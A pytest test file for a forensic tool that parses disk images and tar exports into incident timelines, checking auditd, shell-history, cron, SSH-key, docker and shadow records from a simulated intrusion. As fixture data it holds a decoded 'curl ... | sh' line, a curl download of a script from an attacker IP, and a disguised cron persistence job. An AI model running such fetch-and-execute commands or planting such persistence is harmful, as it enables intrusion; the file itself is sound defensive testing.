"""dissect records to timeline rows: the curated mappings, times, and a tar export."""

from __future__ import annotations

import json
import os
import shutil
import tarfile
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from cloudir.analyze.host.records import audit_fields
from cloudir.analyze.host.rows import iso_time
from cloudir.analyze.parsers import ErrorLog, ParseOptions
from cloudir.analyze.parsers.host import accepts, parse, skip_reason

INTRUSION = datetime(2026, 11, 27, 5, 0, tzinfo=UTC)


def test_auditd_text_becomes_its_key_values() -> None:
    user_space = (
        'pid=1264 uid=0 auid=4294967295 msg=\'op=add-user id=1000 exe="/usr/sbin/useradd" '
        "hostname=? addr=? terminal=? res=success'"
    )
    found = audit_fields(user_space)
    assert found["pid"] == "1264" and found["exe"] == "/usr/sbin/useradd"
    assert found["res"] == "success" and found["op"] == "add-user"
    # auditd hex-encodes arguments that hold spaces; quoted ones stay as written
    execve = 'argc=3 a0="sh" a1="-c" a2=6375726C20687474703A2F2F782F73207C207368'
    assert audit_fields(execve)["a2"] == "curl http://x/s | sh"
    assert audit_fields('a0="CAFE"')["a0"] == "CAFE"


def test_zero_and_1970_times_are_no_time() -> None:
    assert iso_time(datetime(1970, 1, 1, tzinfo=UTC)) is None
    assert iso_time(datetime(1970, 1, 1, 0, 0, 5, tzinfo=UTC)) is None
    assert iso_time(None) is None
    assert iso_time(INTRUSION) == "2026-11-27T05:00:00+00:00"


def test_images_and_split_segments_are_told_apart(tmp_path: Path) -> None:
    for name in ("disk.raw", "web.E01", "vol.vmdk", "fs.tar.gz", "x.qcow2", "image.raw"):
        assert accepts(tmp_path / name), name
    (tmp_path / "d.000").touch()
    (tmp_path / "d.001").touch()
    assert accepts(tmp_path / "d.000")
    assert not accepts(tmp_path / "d.001")
    assert skip_reason(tmp_path / "d.001") == (
        "a later segment of a split image; read with its first segment"
    )
    assert accepts(tmp_path / "only.001")  # a set that starts at .001
    assert not accepts(tmp_path / "web.E02")
    assert not accepts(tmp_path / "events.json.gz")


@pytest.fixture(scope="module")
def tar_export(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The demo runner's file system as a tar export."""
    from cloudir.demo.instance import _write_tree

    base = tmp_path_factory.mktemp("tar")
    root = base / "root"
    _write_tree(root, INTRUSION, "203.0.113.77", "AKIAIOSFODNN7EXAMPLE")
    export = base / "fs.tar.gz"
    with tarfile.open(export, "w:gz") as tar:
        tar.add(root, arcname=".")
    return export


def _parse_tar(export: Path) -> tuple[list[dict[str, Any]], ErrorLog]:
    errors = ErrorLog("tar-item", "fs.tar.gz")
    rows: list[dict[str, Any]] = []
    for batch in parse(export, "tar-item", errors, ParseOptions(fs_timeline=False)):
        rows += batch.to_pylist()
    return rows, errors


@pytest.fixture(scope="module")
def tar_rows(tar_export: Path) -> tuple[list[dict[str, Any]], ErrorLog]:
    """The tar export, parsed without the fs timeline."""
    return _parse_tar(tar_export)


def test_a_tar_export_gives_the_hosts_artifacts(
    tar_rows: tuple[list[dict[str, Any]], ErrorLog],
) -> None:
    rows, errors = tar_rows
    assert errors.entries == []
    assert {r["host"] for r in rows} == {"ci-runner-1"}
    auth = [r for r in rows if r["artifact"] == "linux:auth"]
    failures = [r for r in auth if r["outcome"] == "failure"]
    assert len(failures) == 12
    assert {r["src_ip"] for r in failures} == {"203.0.113.77"}
    # dissect reads "for invalid user admin" as the user "invalid": the name is kept
    assert "admin" in {r["user"] for r in failures} and "invalid" not in {r["user"] for r in auth}
    [login] = [r for r in auth if "Accepted password" in r["message"]]
    assert (login["user"], login["outcome"], login["timestamp_desc"]) == (
        "deploy",
        "success",
        "Event Time",
    )
    assert login["timestamp"] == INTRUSION
    raw = json.loads(login["raw"])
    assert (raw["program"], raw["pid"]) == ("sshd", 2231)


def test_shell_history_rows_are_process_creations(
    tar_rows: tuple[list[dict[str, Any]], ErrorLog],
) -> None:
    rows, _ = tar_rows
    history = sorted(
        (r for r in rows if r["artifact"] == "linux:bash_history"), key=lambda r: r["timestamp"]
    )
    assert len(history) == 8
    curl = json.loads(history[2]["raw"])
    assert curl["CommandLine"] == "curl -s http://203.0.113.77/k.sh -o /var/tmp/.cache/k.sh"
    assert (curl["Image"], curl["User"], curl["ParentImage"]) == ("curl", "deploy", "/bin/bash")
    assert history[2]["timestamp"] == datetime(2026, 11, 27, 5, 3, tzinfo=UTC)


def test_records_without_a_time_take_their_files_mtime(
    tar_rows: tuple[list[dict[str, Any]], ErrorLog],
) -> None:
    rows, _ = tar_rows
    [cron] = [r for r in rows if r["artifact"] == "linux:cron_job"]
    assert cron["timestamp_desc"] == (
        "Source File Modification Time (/var/spool/cron/crontabs/deploy)"
    )
    assert cron["timestamp"] == datetime(2026, 11, 27, 5, 8, tzinfo=UTC)
    assert (cron["user"], cron["target"]) == ("deploy", "/var/tmp/.cache/kworkerd")
    keys = [r for r in rows if r["artifact"] == "linux:ssh_authorized_key"]
    assert sorted(r["target"] for r in keys) == ["attacker@kali", "ci@build"]


def test_event_ids_are_stable_and_distinct(
    tar_rows: tuple[list[dict[str, Any]], ErrorLog], tar_export: Path, tmp_path: Path
) -> None:
    """Distinct, so de-duplication merges no two records; stable, so the same evidence
    read again (a rebuilt timeline, the item copied elsewhere) gives the same ids, and
    two timelines of one case can be compared row by row."""
    rows, _ = tar_rows
    ids = [r["event_id"] for r in rows]
    kinds = {r["artifact"] for r in rows}
    assert {"linux:auth", "linux:bash_history", "linux:cron_job"} <= kinds  # ids of each kind
    assert len(ids) == len(set(ids))
    moved = tmp_path / "elsewhere" / "fs.tar.gz"
    moved.parent.mkdir()
    shutil.copy2(tar_export, moved)
    again, errors = _parse_tar(moved)
    assert errors.entries == []
    assert [r["event_id"] for r in again] == ids


def test_an_unreadable_image_is_one_line_and_nothing_else(tmp_path: Path) -> None:
    fake = tmp_path / "disk.raw"
    fake.write_bytes(os.urandom(256 * 1024))
    errors = ErrorLog("x", "disk.raw")
    assert list(parse(fake, "x", errors, ParseOptions())) == []
    [entry] = errors.entries
    assert entry["reason"].startswith("disk.raw: no file system found")
    assert "\n" not in entry["reason"]


def test_docker_containers_inside_a_host_tree(tmp_path: Path, corpus: Path) -> None:
    """docker-explorer's overlay2 /var/lib/docker, placed where a Linux host keeps it."""
    root = tmp_path / "root"
    (root / "var/lib").mkdir(parents=True)
    for folder in ("etc", "run", "sys"):
        (root / folder).mkdir(exist_ok=True)
    (root / "etc/os-release").write_text("ID=ubuntu\n")
    (root / "etc/hostname").write_text("dockhost\n")
    with tarfile.open(corpus / "images/docker-explorer/overlay2.v2.tgz") as source:
        source.extractall(root / "var/lib", filter="tar")  # it holds absolute links
    export = tmp_path / "host.tar"
    with tarfile.open(export, "w") as tar:
        tar.add(root, arcname=".")
    errors = ErrorLog("host", "host.tar")
    rows = [
        r
        for batch in parse(export, "host", errors, ParseOptions(fs_timeline=False))
        for r in batch.to_pylist()
    ]
    containers = [r for r in rows if r["artifact"] == "docker:container"]
    # 5 containers in config.v2.json files; each has created/started/finished times,
    # and the running one's finished time (0001-01-01) is no time
    assert {json.loads(r["raw"])["container_id"][:12] for r in containers} == {
        p.name[:12] for p in (root / "var/lib/docker/containers").iterdir()
    }
    assert len({json.loads(r["raw"])["container_id"] for r in containers}) == 5
    running = [r for r in containers if "running" in r["message"]]
    assert {r["timestamp_desc"] for r in running} == {"created", "started"}
    [ohai] = [r for r in rows if r["artifact"] == "docker:log" and r["message"].endswith(": ohai")]
    assert ohai["timestamp"] == datetime(2018, 5, 16, 10, 51, 11, 853151, tzinfo=UTC)
    assert ohai["action"] == "docker:log:stdout"


def test_cron_lines_name_the_user_whose_job_ran(
    tar_rows: tuple[list[dict[str, Any]], ErrorLog],
) -> None:
    rows, _ = tar_rows
    cron = [r for r in rows if r["artifact"] == "linux:cron"]
    assert len(cron) == 4
    assert {(r["user"], r["action"]) for r in cron} == {("deploy", "CRON")}


def test_shadow_deadlines_are_kept_in_raw_not_made_events(
    tar_rows: tuple[list[dict[str, Any]], ErrorLog],
) -> None:
    """max_age of 99999 days (never expires) made a row in the 2290s, which every report
    then flagged as an implausible time; the last change is the entry's one event."""
    rows, _ = tar_rows
    shadow = [r for r in rows if r["artifact"] == "linux:shadow"]
    assert shadow and {r["timestamp_desc"] for r in shadow} <= {"last_change", "Last Change"}
    assert all(r["timestamp"].year < 2100 for r in shadow)
    assert all("max_age" in json.loads(r["raw"]) for r in shadow)
